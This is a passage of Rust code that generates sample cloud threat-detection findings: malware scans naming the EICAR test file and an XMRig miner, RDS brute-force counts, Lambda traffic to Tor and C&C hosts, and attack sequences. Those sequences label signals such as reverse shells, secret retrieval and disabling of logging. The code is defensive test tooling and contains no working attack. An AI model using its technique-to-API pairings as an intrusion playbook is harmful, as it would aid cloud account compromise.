                    // The Low case: a dual-use tool (an offensive-only one would be High).
                    process = self.process("nmap", "/usr/bin/nmap", 4242);
                    context.tool_name = Some("nmap".into());
                    context.tool_category = Some("Network scanner".into());
                    severity = Some(2.0);
                }
                _ => {}
            }
        }
        let what = process.name.clone().unwrap_or_default();
        Parts {
            resource: self.runtime_resource(workload),
            action,
            role: "ACTOR",
            title: format!(
                "{} by process {what} on {where_}.",
                capitalized(&words(t.split(['.', '!']).next().unwrap_or(t)))
            ),
            description: format!(
                "{} Observed by Runtime Monitoring in process {what} (pid 4242) on {where_}.",
                sentence(self.info.trigger)
            ),
            evidence,
            severity,
            feature: Some("RuntimeMonitoring"),
            runtime: Some(RuntimeDetails {
                process: Some(process),
                context: (context != RuntimeContext::default()).then_some(context),
            }),
            ..Default::default()
        }
    }

    // ---- Malware Protection ----

    fn malware(&self) -> Parts {
        let t = self.name.technique;
        let suspicious = t.starts_with("SuspiciousFile");
        let (threat, level, severity) = if suspicious {
            ("Riskware.Linux.Miner.XMRig", "MEDIUM", 5.0)
        } else {
            (EICAR_NAME, "HIGH", 8.0)
        };
        let file_hash = if suspicious {
            hex_of(&["riskware", self.ty()], 64)
        } else {
            EICAR_SHA256.to_string()
        };
        let volume = format!(
            "arn:{}:ec2:{}:{}:volume/vol-99999999",
            self.ctx.partition, self.ctx.region, self.ctx.account_id
        );
        let scan_id = hex_of(&["scan", self.ty(), &self.ctx.account_id], 32);
        let mut resource = Resource::default();
        let mut parts = Parts {
            role: "TARGET",
            severity: Some(severity),
            ..Default::default()
        };
        let backup = t.contains('!');
        if self.name.service == "S3" && !backup {
            // Malware Protection for S3: a newly uploaded object.
            let key = "uploads/invoice.pdf.exe";
            let mut bucket = self.bucket();
            bucket.s3_object_details = Some(vec![S3ObjectDetail {
                object_arn: Some(format!("arn:{}:s3:::{BUCKET}/{key}", self.ctx.partition)),
                key: Some(key.into()),
                e_tag: Some(hex_of(&["etag", self.ty()], 32)),
                hash: Some(file_hash.clone()),
                version_id: Some("3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY".into()),
            }]);
            resource.resource_type = "S3Object".into();
            resource.s3_bucket_details = Some(vec![bucket]);
            parts.malware_scan = Some(self.malware_scan(
                "GUARDDUTY_INITIATED",
                None,
                threat,
                &file_hash,
                &format!("arn:{}:s3:::{BUCKET}", self.ctx.partition),
                key,
                ItemAdditionalInfo {
                    version_id: Some("3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY".into()),
                    device_name: None,
                },
                &scan_id,
            ));
        } else if backup {
            let (resource_type, arn) = if t.ends_with("!Snapshot") {
                let arn = format!(
                    "arn:{}:ec2:{}::snapshot/snap-99999999",
                    self.ctx.partition, self.ctx.region
                );
                resource.ebs_snapshot_details = Some(EbsSnapshotDetails {
                    snapshot_arn: arn.clone(),
                });
                ("EBSSnapshot", arn)
            } else if t.ends_with("!AMI") {
                let arn = format!(
                    "arn:{}:ec2:{}::image/{IMAGE_ID}",
                    self.ctx.partition, self.ctx.region
                );
                resource.ec2_image_details = Some(Ec2ImageDetails {
                    image_arn: arn.clone(),
                });
                ("EC2Image", arn)
            } else {
                let arn = self.arn(
                    "backup",
                    &format!("recovery-point:{}", uuid_of(&["recovery", self.ty()])),
                );
                resource.recovery_point_details = Some(RecoveryPointDetails {
                    recovery_point_arn: Some(arn.clone()),
                    backup_vault_name: Some("Default".into()),
                    continuous_scan_details: None,
                });
                ("RecoveryPoint", arn)
            };
            resource.resource_type = resource_type.into();
            let (item_path, info) = if self.name.service == "S3" {
                (
                    "reports/2026/q1.xlsm",
                    ItemAdditionalInfo {
                        version_id: Some("null".into()),
                        device_name: None,
                    },
                )
            } else {
                (
                    "/home/ec2-user/eicar.com",
                    ItemAdditionalInfo {
                        version_id: None,
                        device_name: Some("/dev/xvda".into()),
                    },
                )
            };
            parts.malware_scan = Some(self.malware_scan(
                "BACKUP_INITIATED",
                Some("BACKUP"),
                threat,
                &file_hash,
                &arn,
                item_path,
                info,
                &scan_id,
            ));
        } else {
            // Malware Protection for EC2: a GuardDuty-initiated scan of the volumes behind the
            // workload, triggered by another finding.
            let container = self.container("sample-web", "public.ecr.aws/nginx/nginx:1.25");
            match self.name.service {
                "ECS" => {
                    resource.resource_type = "ECSCluster".into();
                    resource.ecs_cluster_details = Some(self.ecs_cluster(container.clone()));
                }
                "Kubernetes" => {
                    resource.resource_type = "EKSCluster".into();
                    resource.eks_cluster_details = Some(self.eks_cluster());
                    resource.kubernetes_details = Some(KubernetesDetails {
                        kubernetes_user_details: None,
                        kubernetes_workload_details: Some(self.pod(
                            "sample-web-7d9f8c6b5-x2lzq",
                            "default",
                            container.clone(),
                        )),
                    });
                }
                "Container" => {
                    resource.resource_type = "Container".into();
                    resource.container_details = Some(container.clone());
                }
                _ => resource.resource_type = "Instance".into(),
            }
            resource.instance_details = Some(self.instance());
            resource.ebs_volume_details = Some(EbsVolumeDetails {
                scanned_volume_details: Some(vec![VolumeDetail {
                    volume_arn: Some(volume.clone()),
                    volume_type: Some("gp3".into()),
                    device_name: Some("/dev/xvda".into()),
                    volume_size_in_gb: Some(30),
                    encryption_type: Some("UNENCRYPTED".into()),
                    snapshot_arn: Some(format!(
                        "arn:{}:ec2:{}:{}:snapshot/snap-99999999",
                        self.ctx.partition, self.ctx.region, self.ctx.account_id
                    )),
                    kms_key_arn: None,
                }]),
                skipped_volume_details: None,
            });
            parts.ebs_scan = Some(EbsVolumeScanDetails {
                scan_id: Some(scan_id),
                scan_started_at: Some(self.secs_ago(900)),
                scan_completed_at: Some(self.secs_ago(300)),
                trigger_finding_id: Some(sample_finding_id(
                    "Execution:Runtime/NewBinaryExecuted",
                    &self.ctx.account_id,
                    &self.ctx.region,
                    &self.ctx.detector_id,
                )),
                sources: Some(vec!["Amazon".into()]),
                scan_detections: Some(ScanDetections {
                    scanned_item_count: Some(ScannedItemCount {
                        total_gb: Some(30),
                        files: Some(180_342),
                        volumes: Some(1),
                    }),
                    threats_detected_item_count: Some(ThreatsDetectedItemCount { files: Some(1) }),
                    highest_severity_threat_details: Some(HighestSeverityThreatDetails {
                        severity: Some(level.into()),
                        threat_name: Some(threat.into()),
                        count: Some(1),
                    }),
                    threat_detected_by_name: Some(ThreatDetectedByName {
                        item_count: Some(1),
                        unique_threat_name_count: Some(1),
                        shortened: Some(false),
                        threat_names: Some(vec![ScanThreatName {
                            name: Some(threat.into()),
                            severity: Some(level.into()),
                            item_count: Some(1),
                            file_paths: Some(vec![ScanFilePath {
                                file_path: Some("/var/www/html/uploads/eicar.com".into()),
                                volume_arn: Some(volume),
                                hash: Some(file_hash.clone()),
                                file_name: Some("eicar.com".into()),
                            }]),
                        }]),
                    }),
                }),
                scan_type: Some("GUARDDUTY_INITIATED".into()),
            });
            parts.feature = Some("EbsMalwareProtection");
        }
        let scanned = match resource.resource_type.as_str() {
            "S3Object" => format!("a new object in S3 bucket {BUCKET}"),
            "EBSSnapshot" => "EBS snapshot snap-99999999".to_string(),
            "EC2Image" => format!("AMI {IMAGE_ID}"),
            "RecoveryPoint" => "an AWS Backup recovery point".to_string(),
            "ECSCluster" => format!("the volumes of a task in ECS cluster {ECS_CLUSTER}"),
            "EKSCluster" => format!("the volumes of a pod in EKS cluster {EKS_CLUSTER}"),
            "Container" => "the volumes of a container".to_string(),
            _ => format!("the volumes of EC2 instance {INSTANCE_ID}"),
        };
        parts.title = format!(
            "{} {threat} found in {scanned}.",
            if suspicious {
                "Suspicious file"
            } else {
                "Malware"
            }
        );
        parts.description = format!(
            "{} The scan found {threat} (SHA-256 {file_hash}).",
            sentence(self.info.trigger)
        );
        parts.resource = resource;
        parts
    }

    #[allow(clippy::too_many_arguments)]
    fn malware_scan(
        &self,
        scan_type: &str,
        trigger: Option<&str>,
        threat: &str,
        hash: &str,
        resource_arn: &str,
        item_path: &str,
        info: ItemAdditionalInfo,
        scan_id: &str,
    ) -> MalwareScanDetails {
        MalwareScanDetails {
            threats: Some(vec![Threat {
                name: Some(threat.into()),
                source: Some("Amazon".into()),
                item_paths: Some(vec![ItemPath {
                    nested_item_path: Some(item_path.into()),
                    hash: Some(hash.into()),
                }]),
                count: Some(1),
                hash: Some(hash.into()),
                item_details: Some(vec![ItemDetails {
                    resource_arn: Some(resource_arn.into()),
                    item_path: Some(item_path.into()),
                    hash: Some(hash.into()),
                    additional_info: Some(info),
                }]),
            }]),
            scan_id: Some(scan_id.into()),
            scan_type: Some(scan_type.into()),
            scan_category: Some("FULL_SCAN".into()),
            scan_configuration: trigger.map(|t| MalwareScanConfiguration {
                trigger_type: Some(t.into()),
                incremental_scan_details: None,
            }),
            unique_threat_count: Some(1),
        }
    }

    // ---- RDS login activity ----

    fn rds(&self) -> Parts {
        let t = self.name.technique;
        let source = Source::of(t);
        // Discovery types probe without authenticating; the anomaly types use an ordinary ISP
        // address (public, which makes the Variable SuccessfulLogin type Medium).
        let remote = source.remote();
        let (failed, succeeded) = if t.contains("SuccessfulBruteForce") {
            (312, 1)
        } else if t.contains("FailedLogin") {
            (87, 0)
        } else if t.contains("SuccessfulLogin") {
            (0, 1)
        } else {
            (0, 0)
        };
        let probe_only = failed == 0 && succeeded == 0;
        let severity = (self.info.severity_label == "Variable").then_some(5.0);
        let outcome = match (failed, succeeded) {
            (0, 0) => "probed the database without attempting to log in".to_string(),
            (f, 0) => format!("failed to log in {f} times"),
            (0, s) => format!("logged in successfully {s} time(s)"),
            (f, s) => format!("logged in successfully after {f} failed attempts ({s} success)"),
        };
        Parts {
            resource: Resource {
                resource_type: "RDSDBInstance".into(),
                rds_db_instance_details: Some(self.database()),
                rds_db_user_details: (!probe_only).then(|| RdsDbUserDetails {
                    user: Some("postgres".into()),
                    application: Some("psql".into()),
                    database: Some("postgres".into()),
                    ssl: Some("TLSv1.3".into()),
                    auth_method: Some("PASSWORD".into()),
                }),
                ..Default::default()
            },
            action: Action {
                action_type: "RDS_LOGIN_ATTEMPT".into(),
                rds_login_attempt_action: Some(RdsLoginAttemptAction {
                    remote_ip_details: Some(remote.details()),
                    login_attributes: (!probe_only).then(|| {
                        vec![LoginAttribute {
                            user: Some("postgres".into()),
                            application: Some("psql".into()),
                            failed_login_attempts: Some(failed),
                            successful_login_attempts: Some(succeeded),
                        }]
                    }),
                }),
                ..Default::default()
            },
            role: "TARGET",
            title: format!("{} {outcome} on RDS database {DB_INSTANCE}.", remote.ip),
            description: format!(
                "{} {} {outcome} on {DB_INSTANCE}.",
                sentence(self.info.trigger),
                source.subject(remote.ip)
            ),
            evidence: source.evidence(),
            severity,
            feature: Some("RdsLoginEvents"),
            detection: t
                .starts_with("AnomalousBehavior")
                .then(|| anomaly("postgres", &remote)),
            ..Default::default()
        }
    }

    // ---- Lambda network activity ----

    fn lambda(&self) -> Parts {
        let t = self.name.technique;
        let (action, evidence) = match t {
            "TorRelay" => (
                self.connection(false, "TCP", Some(9001), Some(41_877), TOR_EXIT),
                Some(threat_evidence("TorNodes", "TorNode")),
            ),
            "TorClient" => (
                self.connection(true, "TCP", Some(45_210), Some(9001), TOR_EXIT),
                Some(threat_evidence("TorNodes", "TorNode")),
            ),
            "BitcoinTool.B" => (
                self.connection(true, "TCP", Some(48_333), Some(3333), HOSTING),
                Some(threat_evidence("Amazon", "CryptoCurrency")),
            ),
            "C&CActivity.B" => (
                self.connection(true, "TCP", Some(48_443), Some(443), HOSTING),
                Some(threat_evidence("ProofPoint", "C&C server")),
            ),
            "BlackholeTraffic" => (
                self.connection(true, "TCP", Some(48_080), Some(80), HOSTING),
                Some(threat_evidence("Amazon", "BlackHole")),
            ),
            "DropPoint" => (
                self.connection(true, "TCP", Some(48_443), Some(443), HOSTING),
                Some(threat_evidence("Amazon", "DropPoint")),
            ),
            _ => (
                self.connection(true, "TCP", Some(48_443), Some(443), HOSTING),
                Source::of(t).evidence(),
            ),
        };
        let remote_ip = action
            .network_connection_action
            .as_ref()
            .and_then(|c| c.remote_ip_details.as_ref())
            .and_then(|r| r.ip_address_v4.clone())
            .unwrap_or_default();
        Parts {
            resource: Resource {
                resource_type: "Lambda".into(),
                lambda_details: Some(self.function()),
                ..Default::default()
            },
            action,
            role: "ACTOR",
            title: format!("Lambda function {FUNCTION} is communicating with {remote_ip}."),
            description: format!(
                "{} Lambda function {FUNCTION} exchanged traffic with {remote_ip}.",
                sentence(self.info.trigger)
            ),
            evidence,
            feature: Some("LambdaNetworkLogs"),
            ..Default::default()
        }
    }

    // ---- Attack sequences ----

    fn sequence(&self) -> Parts {
        let ctx = self.ctx;
        let now = self.secs_ago(0);
        let (resource, resource_v2, signals): (Resource, ResourceV2, Vec<(&str, &str, &str)>) =
            match self.name.service {
                "S3" => {
                    let mut r = Resource {
                        resource_type: "S3Bucket".into(),
                        s3_bucket_details: Some(vec![self.bucket()]),
                        ..Default::default()
                    };
                    r.access_key_details = Some(self.access_key());
                    (
                        r,
                        self.resource_v2(
                            "S3_BUCKET",
                            &format!("arn:{}:s3:::{BUCKET}", ctx.partition),
                            BUCKET,
                            "s3",
                        ),
                        vec![
                            ("CLOUD_TRAIL", "PutBucketPolicy", "s3.amazonaws.com"),
                            ("S3_DATA_EVENTS", "GetObject", "s3.amazonaws.com"),
                            ("S3_DATA_EVENTS", "DeleteObject", "s3.amazonaws.com"),
                        ],
                    )
                }
                "EKS" => (
                    Resource {
                        resource_type: "EKSCluster".into(),
                        eks_cluster_details: Some(self.eks_cluster()),
                        ..Default::default()
                    },
                    self.resource_v2(
                        "EKS_CLUSTER",
                        &self.arn("eks", &format!("cluster/{EKS_CLUSTER}")),
                        EKS_CLUSTER,
                        "eks",
                    ),
                    vec![
                        (
                            "EKS_AUDIT_LOGS",
                            "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
                            "eks.amazonaws.com",
                        ),
                        (
                            "RUNTIME_MONITORING",
                            "Impact:Runtime/CryptoMinerExecuted",
                            "eks.amazonaws.com",
                        ),
                        ("CLOUD_TRAIL", "ListSecrets", "secretsmanager.amazonaws.com"),
                    ],
                ),
                "ECS" => (
                    Resource {
                        resource_type: "ECSCluster".into(),
                        ecs_cluster_details: Some(self.ecs_cluster(
                            self.container("sample-web", "public.ecr.aws/nginx/nginx:1.25"),
                        )),
                        ..Default::default()
                    },
                    self.resource_v2(
                        "ECS_CLUSTER",
                        &self.arn("ecs", &format!("cluster/{ECS_CLUSTER}")),
                        ECS_CLUSTER,
                        "ecs",
                    ),
                    vec![
                        (
                            "RUNTIME_MONITORING",
                            "Execution:Runtime/ReverseShell",
                            "ecs.amazonaws.com",
                        ),
                        (
                            "RUNTIME_MONITORING",
                            "Impact:Runtime/CryptoMinerExecuted",
                            "ecs.amazonaws.com",
                        ),
                        (
                            "CLOUD_TRAIL",
                            "GetSecretValue",
                            "secretsmanager.amazonaws.com",
                        ),
                    ],
                ),
                "EC2" => (
                    Resource {
                        resource_type: "Instance".into(),
                        instance_details: Some(self.instance()),
                        ..Default::default()
                    },
                    self.resource_v2(
                        "EC2_INSTANCE",
                        &self.arn("ec2", &format!("instance/{INSTANCE_ID}")),
                        INSTANCE_ID,
                        "ec2",
                    ),
                    vec![
                        (
                            "FLOW_LOGS",
                            "UnauthorizedAccess:EC2/SSHBruteForce",
                            "ec2.amazonaws.com",
                        ),
                        (
                            "RUNTIME_MONITORING",
                            "Execution:Runtime/NewBinaryExecuted",
                            "ec2.amazonaws.com",
                        ),
                        (
                            "DNS_LOGS",
                            "CryptoCurrency:EC2/BitcoinTool.B!DNS",
                            "ec2.amazonaws.com",
                        ),
                    ],
                ),
                _ => (
                    Resource {
                        resource_type: "AccessKey".into(),
                        access_key_details: Some(self.access_key()),
                        ..Default::default()
                    },
                    self.resource_v2("ACCESS_KEY", ACCESS_KEY_ID, ACCESS_KEY_ID, "iam"),
                    vec![
                        ("CLOUD_TRAIL", "ListAccessKeys", "iam.amazonaws.com"),
                        ("CLOUD_TRAIL", "StopLogging", "cloudtrail.amazonaws.com"),
                        ("CLOUD_TRAIL", "CreateAccessKey", "iam.amazonaws.com"),
                    ],
                ),
            };
        let actor_id = uuid_of(&["actor", self.ty()]);
        let endpoint_id = uuid_of(&["endpoint", self.ty()]);
        let count = signals.len() as i64;
        let seq_signals: Vec<SequenceSignal> = signals
            .iter()
            .enumerate()
            .map(|(i, (kind, name, service))| {
                let at = now - ((count - i as i64) * 900) as f64;
                let is_finding = name.contains(':');
                SequenceSignal {
                    uid: uuid_of(&["signal", self.ty(), name]),
                    signal_type: if is_finding { "FINDING" } else { kind }.to_string(),
                    description: Some(if is_finding {
                        format!("GuardDuty finding {name}")
                    } else {
                        format!("{name} called on {service}")
                    }),
                    name: name.to_string(),
                    created_at: at,
                    updated_at: at,
                    first_seen_at: at,
                    last_seen_at: at,
                    severity: Some(if is_finding { 8.0 } else { 5.0 }),
                    count: 1,
                    resource_uids: Some(vec![resource_v2.uid.clone()]),
                    actor_ids: Some(vec![actor_id.clone()]),
                    endpoint_ids: Some(vec![endpoint_id.clone()]),
                    signal_indicators: Some(vec![Indicator {
                        key: if is_finding {
                            "ATTACK_TECHNIQUE"
                        } else {
                            "HIGH_RISK_API"
                        }
                        .into(),
                        values: Some(vec![name.to_string()]),
                        title: None,
                    }]),
                    activities: (!is_finding).then(|| {
                        vec![Activity {
                            activity_type: "API_CALL".into(),
                            api: Some(ApiCall {
                                operation: Some(name.to_string()),
                                service: Some(service.to_string()),
                                error: None,
                                user_agent: Some(CLI_USER_AGENT.into()),
                            }),
                        }]
                    }),
                }
            })
            .collect();
        let sequence = Sequence {
            uid: uuid_of(&["sequence", self.ty(), &ctx.account_id]),
            description: sentence(self.info.trigger),
            actors: Some(vec![Actor {
                id: actor_id,
                user: Some(User {
                    name: USER_NAME.into(),
                    uid: PRINCIPAL_ID.into(),
                    user_type: "IAMUser".into(),
                    credential_uid: Some(ACCESS_KEY_ID.into()),
                    account: Some(Account {
                        uid: ctx.account_id.clone(),
                        name: None,
                    }),
                }),
                session: Some(Session {
                    uid: None,
                    mfa_status: Some("DISABLED".into()),
                    created_time: Some(now - 7200.0),
                    issuer: None,
                }),
                process: None,
            }]),
            resources: Some(vec![resource_v2]),
            endpoints: Some(vec![NetworkEndpoint {
                id: endpoint_id,
                ip: Some(HOSTING.ip.into()),
                domain: None,
                port: None,
                location: Some(NetworkGeoLocation {
                    city: HOSTING.city.into(),
                    country: HOSTING.country.into(),
                    lat: HOSTING.lat,
                    lon: HOSTING.lon,
                }),
                autonomous_system: Some(AutonomousSystem {
                    name: HOSTING.org.into(),
                    number: HOSTING.asn.into(),
                }),
                connection: Some(NetworkConnection {
                    direction: "INBOUND".into(),
                }),
            }]),
            signals: seq_signals,
            sequence_indicators: Some(vec![
                Indicator {
                    key: "ATTACK_TACTIC".into(),
                    values: Some(vec![
                        "Discovery".into(),
                        "Defense Evasion".into(),
                        "Impact".into(),
                    ]),
                    title: Some("Attack tactics".into()),
                },
                Indicator {
                    key: "MALICIOUS_IP".into(),
                    values: Some(vec![HOSTING.ip.into()]),
                    title: Some("Known malicious IP address".into()),
                },
            ]),
            additional_sequence_types: None,
        };
        Parts {
            resource,
            role: "TARGET",
            title: match self.name.service {
                "S3" => format!("Potential data compromise of S3 bucket {BUCKET}."),
                "EKS" => format!("Potential compromise of EKS cluster {EKS_CLUSTER}."),
                "ECS" => format!("Potential compromise of ECS cluster {ECS_CLUSTER}."),
                "EC2" => format!(
                    "Potential compromise of a group of EC2 instances including {INSTANCE_ID}."
                ),
                _ => format!("Potential credential compromise of {USER_NAME}."),
            },
            description: format!(
                "{} {count} related signals from {USER_NAME} at {} were correlated into one sequence.",
                sentence(self.info.trigger),
                HOSTING.ip
            ),
            detection: Some(Detection {
                anomaly: None,
                sequence: Some(sequence),
            }),
            ..Default::default()
        }
    }

    fn resource_v2(&self, kind: &str, uid: &str, name: &str, service: &str) -> ResourceV2 {
        ResourceV2 {
            uid: uid.into(),
            name: Some(name.into()),
            account_id: Some(self.ctx.account_id.clone()),
            resource_type: kind.into(),
            region: Some(self.ctx.region.clone()),
            service: Some(service.into()),
            cloud_partition: Some(self.ctx.partition.clone()),
            tags: None,
            data: None,
        }
    }

    fn finish(&self, p: Parts) -> Finding {
        let ctx = self.ctx;
        let id = sample_finding_id(self.ty(), &ctx.account_id, &ctx.region, &ctx.detector_id);
        let now = format_timestamp(ctx.now_ms);
        let severity = p
            .severity
            .or(self.info.severity)
            .or_else(|| level_value(self.info.severity_label))
            .unwrap_or(5.0);
        Finding {
            account_id: ctx.account_id.clone(),
            arn: format!(
                "arn:{}:guardduty:{}:{}:detector/{}/finding/{id}",
                ctx.partition, ctx.region, ctx.account_id, ctx.detector_id
            ),
            confidence: None,
            created_at: now.clone(),
            description: p.description,
            id,
            partition: ctx.partition.clone(),
            region: ctx.region.clone(),
            resource: p.resource,
            schema_version: "2.0".into(),
            service: Service {
                action: p.action,
                evidence: p.evidence,
                archived: false,
                count: 1,
                detector_id: ctx.detector_id.clone(),
                event_first_seen: now.clone(),
                event_last_seen: now.clone(),
                resource_role: p.role.into(),
                service_name: "guardduty".into(),
                user_feedback: None,
                additional_info: Some(AdditionalInfo {
                    value: r#"{"sample":true}"#.into(),
                    info_type: "default".into(),
                }),
                feature_name: p.feature.map(str::to_string),
                ebs_volume_scan_details: p.ebs_scan,
                runtime_details: p.runtime,
                detection: p.detection,
                malware_scan_details: p.malware_scan,
            },
            severity,
            title: p.title,
            finding_type: self.ty().to_string(),
            updated_at: now,
            associated_attack_sequence_arn: None,
            custom_detection_rule_name: p.rule,
        }
    }
}

fn block_all(on: bool) -> BlockPublicAccess {
    BlockPublicAccess {
        ignore_public_acls: Some(on),
        restrict_public_buckets: Some(on),
        block_public_acls: Some(on),
        block_public_policy: Some(on),
    }
}

/// An anomaly (ML) finding's evidence: the API (or verb/user) was never seen for this principal,
/// from an autonomous system it rarely uses.
fn anomaly(what: &str, remote: &Remote) -> Detection {
    let object = |subtype: &str, text: String| AnomalyObject {
        profile_type: Some("FREQUENCY".into()),
        profile_subtype: Some(subtype.into()),
        observations: Some(Observations {
            text: Some(vec![text]),
            number: None,
        }),
    };
    let mut profiles = BTreeMap::new();
    profiles.insert(
        "USER".to_string(),
        BTreeMap::from([
            ("API".to_string(), vec![object("UNSEEN", what.to_string())]),
            (
                "ASN".to_string(),
                vec![object("RARE", remote.asn.to_string())],
            ),
        ]),
    );
    let mut behavior = BTreeMap::new();
    behavior.insert(
        "USER".to_string(),
        BTreeMap::from([("API".to_string(), object("UNSEEN", what.to_string()))]),
    );
    Detection {
        anomaly: Some(Anomaly {
            profiles: Some(profiles),
            unusual: Some(AnomalyUnusual {
                behavior: Some(behavior),
            }),
        }),
        sequence: None,
    }
}
